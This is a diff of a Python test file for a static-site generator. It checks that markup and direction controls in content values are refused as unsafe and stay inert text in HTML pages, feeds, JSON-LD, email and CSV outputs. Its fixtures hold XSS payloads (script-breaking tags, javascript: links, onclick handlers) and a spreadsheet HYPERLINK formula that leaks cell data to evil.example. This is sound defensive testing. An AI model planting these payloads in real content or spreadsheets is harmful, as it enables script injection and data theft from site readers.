@@ -38,6 +38,7 @@ X = ("</script><script>alert(1)</script>\"'><img src=https://evil.example/p oner
 M = ("[x](javascript:alert(1)) ![p](https://evil.example/p.png) <https://evil.example/> {: onclick=alert(1) } "
      "[[cities]]")
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1)'
+SHOWN = X.replace("\u202e", "")  # what readers get: text, without the invisible direction control
 
 
 def _quoted(text: str) -> str:
@@ -92,11 +93,18 @@ def _new_violations(tree) -> list[str]:
 
 # --- plain-text values are text in every output --------------------------------------------
 
-def test_the_seam_values_are_accepted_as_text(seams):
-    """Titles, place names and the publisher are plain text, shown as written (a < b, Q&A ...):
-    the check accepts them, so every output below must make them inert by itself."""
+def test_the_seam_values_are_refused_by_the_check_and_only_as_unsafe(seams):
+    """Titles, place names and the publisher are plain text, shown as written (a < b, Q&A ...).
+    Markup and direction controls in them are refused, as unsafe content: the build behind the
+    check (the fixture's) meets them, and every output below must make them inert by itself."""
     _, content, problems, _ = seams
-    assert content is not None, problems.report()
+    assert content is None
+    assert {p.category for p in problems} == {UNSAFE}, problems.report()
+    refused = {p.file for p in problems}
+    assert {"content/site.yml", NEWS, "content/newsletter/2020-q1.en.md", "content/charts.en.yml",
+            "content/places.en.yml", "content/places.lv.yml", "content/places.pl.yml"} <= refused
+    assert any("holds markup (</script>)" in p.message for p in problems)
+    assert any("direction control (U+202E)" in p.message for p in problems)
 
 
 def test_every_page_keeps_the_values_as_text(seams, site):
@@ -122,7 +130,7 @@ def test_every_page_keeps_the_values_as_text(seams, site):
 def test_a_place_name_is_text_in_headings_title_previews_and_json_ld(seams, lang):
     _, _, _, site = seams
     tree = lxml.html.parse(str(page_path(site, lang, "partners/riga"))).getroot()
-    name = X + " " + M
+    name = SHOWN + " " + M
     assert tree.xpath("string(//h1)").strip() == name
     assert tree.xpath("string(//title)").startswith(name)
     assert tree.xpath("//meta[@property='og:title']/@content") == [name]
@@ -143,15 +151,15 @@ def test_labels_that_start_a_formula_are_text_in_every_csv(seams, lang):
                 assert not cell.lstrip().startswith(("=", "+", "@")), (path, cell)
     if lang in ("en", "lv", "pl"):  # the languages whose area label (and English label) was hostile
         rows = list(csv.reader(io.StringIO((site / prefix / "data/unemployment-2019.csv").read_text(encoding="utf-8"))))
-        assert any(cell == "'" + FORMULA + X for row in rows for cell in row), rows[:2]
+        assert any(cell == "'" + FORMULA + SHOWN for row in rows for cell in row), rows[:2]
 
 
 def test_a_news_title_is_text_in_previews_json_ld_and_share_links(seams):
     _, _, _, site = seams
-    title = one_line(X + " " + M + " \u0008\u001b مرحبا 🇪🇺")
+    title = one_line(SHOWN + " " + M + " \u0008\u001b مرحبا 🇪🇺")
     tree = lxml.html.parse(str(page_path(site, "en", NEWS_PAGE))).getroot()
     assert tree.xpath("//meta[@property='og:title']/@content") == [title]
-    assert tree.xpath("//meta[@property='og:description']/@content") == [X + " " + M]
+    assert tree.xpath("//meta[@property='og:description']/@content") == [SHOWN + " " + M]
     (article,) = _json_ld(tree)
     assert article["headline"] == title
     shares = tree.xpath("//*[@class='epi-share']//a/@href")
@@ -179,14 +187,14 @@ def test_a_summary_is_text_in_the_feeds_as_a_reader_parses_them(seams, feed):
             fragment = lxml.html.fragment_fromstring(summary, create_parent="div")
             assert not fragment.xpath("//img|//script"), summary[:120]
             summary = fragment.text_content()
-        assert summary.startswith(X), summary[:120]  # shown exactly as written
+        assert summary.startswith(SHOWN), summary[:120]  # shown exactly as written
 
 
 def test_the_email_edition_keeps_the_title_as_text(seams):
     _, _, _, site = seams
     email = lxml.html.parse(str(site / "news/2020-q1/email.html")).getroot()
     assert not _new_violations(email)
-    assert X in email.text_content()
+    assert SHOWN in email.text_content()
 
 
 # --- HOLE: a glossary form could hang the check -----------------------------------------------
